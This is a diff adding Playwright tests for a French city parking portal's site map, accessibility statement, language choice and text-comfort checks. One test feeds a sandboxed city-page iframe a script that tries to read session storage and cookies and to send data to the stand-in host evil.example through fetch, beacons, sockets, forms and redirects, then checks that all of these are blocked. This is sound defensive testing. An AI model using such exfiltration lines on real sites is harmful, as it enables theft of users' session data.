@@ -1,0 +1,321 @@
+import AxeBuilder from '@axe-core/playwright'
+import { cityPage } from '../../deploy/edge/src/city-page.ts'
+import { addresses, expect, headingOf, openAs, type Page, test } from '../portal.ts'
+import { enlargeText, hiddenFocus, loseText, spaceText } from './comfort.ts'
+
+const main = (page: Page) => page.getByRole('main')
+
+interface ReleasedRoute {
+  readonly pattern: string
+  readonly access: 'public' | 'subscriber'
+}
+
+/** Every screen that has an address of its own, as the release says. */
+async function addressesOf(page: Page, portal: string): Promise<readonly ReleasedRoute[]> {
+  const answer = await page.request.get(`${portal}/release.json`)
+  const { remotes } = (await answer.json()) as {
+    remotes: Record<string, { routes: readonly ReleasedRoute[] }>
+  }
+  return Object.values(remotes)
+    .flatMap(({ routes }) => routes)
+    .filter(({ pattern }) => !pattern.includes(':'))
+}
+
+/** Puts this in the city's configuration, as its own administrators would. */
+async function configure(page: Page, part: Record<string, unknown>): Promise<void> {
+  await page.route('**/api/config', async route => {
+    const config = (await (await route.fetch()).json()) as Record<string, unknown>
+    await route.fulfill({ json: { ...config, ...part } })
+  })
+}
+
+/** A city's page with a script, as the edge answers it. */
+async function giveCityPage(page: Page, customPageConfiguration: Record<string, string>): Promise<void> {
+  await configure(page, { customPageConfiguration })
+  const made = cityPage({ customPageConfiguration }, 'fr')
+  await page.route('**/city-page?*', route =>
+    route.fulfill({
+      contentType: 'text/html; charset=utf-8',
+      headers: { 'content-security-policy': made?.policy ?? '' },
+      body: made?.html ?? '',
+    }),
+  )
+}
+
+test('the site map names every screen of every part, and each of them opens', async ({ page, portal }) => {
+  test.setTimeout(90_000)
+  const routes = await addressesOf(page, portal)
+  await page.goto(`${portal}/legal`)
+  await page.getByRole('contentinfo').getByRole('link', { name: 'Plan du site' }).click()
+  await expect(headingOf(page)).toHaveText('Plan du site')
+  const hrefs = await main(page)
+    .getByRole('link')
+    .evaluateAll(links => links.map(link => link.getAttribute('href') ?? ''))
+  expect(hrefs).toEqual(expect.arrayContaining(routes.map(({ pattern }) => pattern)))
+  expect(new Set(hrefs).size).toBe(hrefs.length)
+  for (const href of hrefs) {
+    await page.goto(`${portal}${href}`)
+    await expect(headingOf(page)).not.toHaveText('Page introuvable')
+  }
+})
+
+test('the accessibility statement tells state, rate, gaps, contact and remedies from the dated grid', async ({
+  page,
+  portal,
+}) => {
+  await page.goto(`${portal}/legal`)
+  const state = page.getByRole('contentinfo').getByRole('link', { name: /^Accessibilité/ })
+  const said = (await state.textContent()) ?? ''
+  await state.click()
+  await expect(headingOf(page)).toHaveText(said)
+  for (const name of [
+    'État de conformité',
+    'Résultats des tests',
+    'Contenus non accessibles',
+    'Établissement de cette déclaration',
+    'Retour d’information et contact',
+    'Voies de recours',
+  ])
+    await expect(main(page).getByRole('heading', { name })).toBeVisible()
+  await expect(main(page)).toContainText(/établit que \d+\s% des critères applicables sont respectés/)
+  await expect(
+    main(page)
+      .getByRole('link', { name: /Défenseur des droits/ })
+      .first(),
+  ).toBeVisible()
+  await main(page).getByText('Afficher la grille').click()
+  await expect(main(page).getByRole('table').getByRole('row')).toHaveCount(107)
+  await page.getByRole('button', { name: 'English' }).click()
+  await expect(headingOf(page)).toHaveText(/^Accessibility: /)
+  const { violations } = await new AxeBuilder({ page }).analyze()
+  expect(violations.map(({ id }) => id)).toEqual([])
+})
+
+test('a city’s own accessibility statement takes the place of ours', async ({ page, portal }) => {
+  const html = '<h2>Déclaration de Valmont</h2><p>Audit du 3 mars.</p>'
+  await configure(page, {
+    legalPages: {
+      legal: null,
+      privacy: null,
+      cgu: null,
+      support: null,
+      accessibility: { fr: html, en: html },
+    },
+  })
+  await page.goto(`${portal}/accessibility`)
+  await expect(main(page).getByRole('heading', { name: 'Déclaration de Valmont' })).toBeVisible()
+  await expect(
+    page.getByRole('contentinfo').getByRole('link', { name: 'Accessibilité', exact: true }),
+  ).toBeVisible()
+  await page.goto(`${portal}/cgu`)
+  await expect(main(page)).toContainText('Valmont')
+  await expect(main(page).getByRole('paragraph')).not.toHaveCount(0)
+})
+
+for (const [wish, stored, spoken] of [
+  ['en-GB', null, 'en'],
+  ['fr-CA', null, 'fr'],
+  ['de-DE', null, 'fr'],
+  ['en-GB', 'fr', 'fr'],
+  ['fr-FR', 'en', 'en'],
+  ['de-DE', 'nonsense', 'fr'],
+] as const) {
+  test(`a browser that speaks ${wish}, with ${stored ?? 'nothing'} chosen before, is spoken to in ${spoken}`, async ({
+    browser,
+  }, { project }) => {
+    test.skip(project.name === 'phone', 'The same on every size.')
+    const context = await browser.newContext({ locale: wish })
+    if (stored) await context.addInitScript(lang => localStorage.setItem('parvis.lang', lang), stored)
+    const page = await context.newPage()
+    await page.goto(`${addresses().portals.valmont}/site-map`)
+    await expect(headingOf(page)).toHaveText(spoken === 'en' ? 'Site map' : 'Plan du site')
+    await expect(page.locator('html')).toHaveAttribute('lang', spoken)
+    await context.close()
+  })
+}
+
+test('what the city announces is read on every page, in both languages', async ({ page, portal }) => {
+  const text = { fr: 'Travaux place du Marché.', en: 'Works on place du Marché.' }
+  await configure(page, { publicAnnouncement: { level: 'warning', text } })
+  await page.goto(`${portal}/fps`)
+  await expect(page.getByRole('complementary', { name: 'Annonce de la ville' })).toContainText(text.fr)
+  await page.getByRole('button', { name: 'English' }).click()
+  await expect(page.getByRole('complementary', { name: /announcement/i })).toContainText(text.en)
+})
+
+test('a city’s page greets below the way in, with a style that holds for it alone', async ({
+  page,
+  portal,
+}) => {
+  await configure(page, {
+    customPageConfiguration: {
+      headerTitle: 'Stationner à Valmont',
+      content: '<p class="x">Bienvenue à <a href="/fps">Valmont</a>.</p><p class="y">Deux</p>',
+      style: '.x{color:rgb(1,2,3)} h1{display:none} .y{position:fixed;inset:0;background:red}',
+      script: '',
+    },
+  })
+  await page.goto(`${portal}/`)
+  const region = page.getByRole('region', { name: 'Stationner à Valmont' })
+  await expect(region.getByText('Bienvenue à')).toBeVisible()
+  await expect(headingOf(page)).toBeVisible()
+  await expect(region.locator('.x')).toHaveCSS('color', 'rgb(1, 2, 3)')
+  // What would lie over everything stays in its place: the way in can be used.
+  await page.getByRole('main').getByRole('button').first().click({ trial: true })
+})
+
+test.describe('a city’s page with a script', () => {
+  // What its policy refuses is written to the console: that is the proof.
+  test.use({ expectedComplaints: /./ })
+
+  test('runs it without an origin: it reaches neither session, storage, portal nor network', async ({
+    page,
+    portal,
+  }) => {
+    const evil: string[] = []
+    await page.route('**://evil.example/**', route => {
+      evil.push(route.request().url())
+      return route.abort()
+    })
+    const attempts: Record<string, string> = {
+      storage: 'sessionStorage.getItem("parvis.session")',
+      local: 'localStorage.length',
+      cookie: 'document.cookie',
+      parent: 'parent.document.title',
+      top: 'top.location="https://evil.example/top"',
+      popup: 'if(!window.open("https://evil.example/popup"))throw 1',
+      database: 'indexedDB.open("x")',
+      code: 'new Function("return 1")()',
+    }
+    const quiet = [
+      'fetch("https://evil.example/fetch").catch(()=>{})',
+      'fetch("/api/config").then(()=>done.push("api")).catch(()=>{})',
+      'new Image().src="https://evil.example/image"',
+      'try{new WebSocket("wss://evil.example/socket")}catch{}',
+      'navigator.sendBeacon&&navigator.sendBeacon("https://evil.example/beacon")',
+      'const f=document.createElement("form");f.action="https://evil.example/form";f.method="post";document.body.append(f);try{f.submit()}catch{}',
+      'const l=document.createElement("link");l.rel="dns-prefetch";l.href="https://evil.example";document.head.append(l)',
+      // Leaving for elsewhere by itself empties the frame: after it has said what it could do.
+      'setTimeout(()=>{const m=document.createElement("meta");m.httpEquiv="refresh";m.content="0;url=https://evil.example/refresh";document.head.append(m);location="https://evil.example/self"},2500)',
+    ]
+    const script = [
+      'const done=[]',
+      ...Object.entries(attempts).map(([name, code]) => `try{${code};done.push('${name}')}catch{}`),
+      ...quiet,
+      "setTimeout(()=>{document.getElementById('city-page').insertAdjacentHTML('beforeend','<p>Fait : '+(done.join(' ')||'rien')+'</p>')},600)",
+    ].join(';\n')
+    const custom = {
+      headerTitle: 'Notre page',
+      content: '<p><a href="/fps">Vers les FPS</a></p>',
+      style: '',
+      script,
+    }
+    await giveCityPage(page, custom)
+    await page.goto(`${portal}/`)
+    const frame = page.frameLocator('iframe[title="Notre page"]')
+    await frame.getByText('Vers les FPS').scrollIntoViewIfNeeded()
+    await expect(frame.getByText('Fait : rien')).toBeVisible()
+    await page.waitForTimeout(2_800)
+    expect(evil).toEqual([])
+    await expect(page).toHaveURL(`${portal}/`)
+  })
+
+  test('lets its links lead through the portal', async ({ page, portal }) => {
+    const custom = {
+      headerTitle: 'Notre page',
+      content: '<p><a href="/fps">Vers les FPS</a></p>',
+      style: '',
+      script: '0',
+    }
+    await giveCityPage(page, custom)
+    await page.goto(`${portal}/`)
+    await page.frameLocator('iframe[title="Notre page"]').getByText('Vers les FPS').click()
+    await expect(page).toHaveURL(`${portal}/fps`)
+  })
+})
+
+const COMFORT: readonly (readonly [string | null, string])[] = [
+  [null, '/souscriptions'],
+  [null, '/fps'],
+  [null, '/accessibility'],
+  [null, '/site-map'],
+  ['Camille Martin', '/souscriptions'],
+  ['Camille Martin', '/souscriptions/camille-sub-shared'],
+  ['Camille Martin', '/demandes'],
+  ['Camille Martin', '/souscriptions/create/vm-resident'],
+  ['Camille Martin', '/settings'],
+]
+
+test.describe('who reads otherwise', () => {
+  test.skip(({ isMobile }) => isMobile, 'Sizes of their own.')
+  test.setTimeout(120_000)
+
+  async function open(page: Page, who: string | null, path: string): Promise<void> {
+    if (who) await openAs(page, who, path)
+    else await page.goto(`${addresses().portals.valmont}${path}`)
+    await expect(headingOf(page)).toBeVisible()
+    await expect(page.locator('[aria-busy="true"]')).toHaveCount(0)
+  }
+
+  const sideways = (page: Page) =>
+    page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)
+
+  for (const [name, viewport] of [
+    ['320 pixels wide', { width: 320, height: 640 }],
+    ['at 400 %', { width: 320, height: 256 }],
+  ] as const)
+    test(`${name}, nothing scrolls sideways and nothing is cut off`, async ({ page, portal: _ }) => {
+      await page.setViewportSize(viewport)
+      for (const [who, path] of COMFORT) {
+        await open(page, who, path)
+        expect.soft(await sideways(page), path).toBeLessThanOrEqual(0)
+        expect.soft(await loseText(page), path).toEqual([])
+      }
+    })
+
+  test('with wider spaces between lines, words and letters, no text is lost', async ({ page, portal: _ }) => {
+    for (const [who, path] of COMFORT) {
+      await open(page, who, path)
+      await spaceText(page)
+      expect.soft(await sideways(page), path).toBeLessThanOrEqual(0)
+      expect.soft(await loseText(page), path).toEqual([])
+    }
+  })
+
+  test('with text twice as large, no text is lost', async ({ page, portal: _ }) => {
+    for (const [who, path] of COMFORT) {
+      await open(page, who, path)
+      await enlargeText(page)
+      expect.soft(await sideways(page), path).toBeLessThanOrEqual(0)
+      expect.soft(await loseText(page), path).toEqual([])
+    }
+  })
+
+  test('with the keyboard, the focus is seen at every stop and returns to the beginning', async ({
+    page,
+    portal: _,
+  }) => {
+    for (const [who, path] of COMFORT.slice(0, 6)) {
+      await open(page, who, path)
+      expect.soft(await hiddenFocus(page), path).toEqual([])
+    }
+  })
+
+  test('with forced colours and without motion, every screen stays readable', async ({ page, portal: _ }) => {
+    await page.emulateMedia({ forcedColors: 'active', reducedMotion: 'reduce' })
+    for (const [who, path] of COMFORT) {
+      await open(page, who, path)
+      const { violations } = await new AxeBuilder({ page }).analyze()
+      expect.soft(violations.map(({ id }) => `${path}: ${id}`)).toEqual([])
+      const moving = await page.evaluate(
+        () =>
+          document
+            .getAnimations()
+            .filter(
+              ({ effect, playState }) => playState === 'running' && Number(effect?.getTiming().duration) > 10,
+            ).length,
+      )
+      expect.soft(moving, `${path} moves`).toBe(0)
+    }
+  })
+})
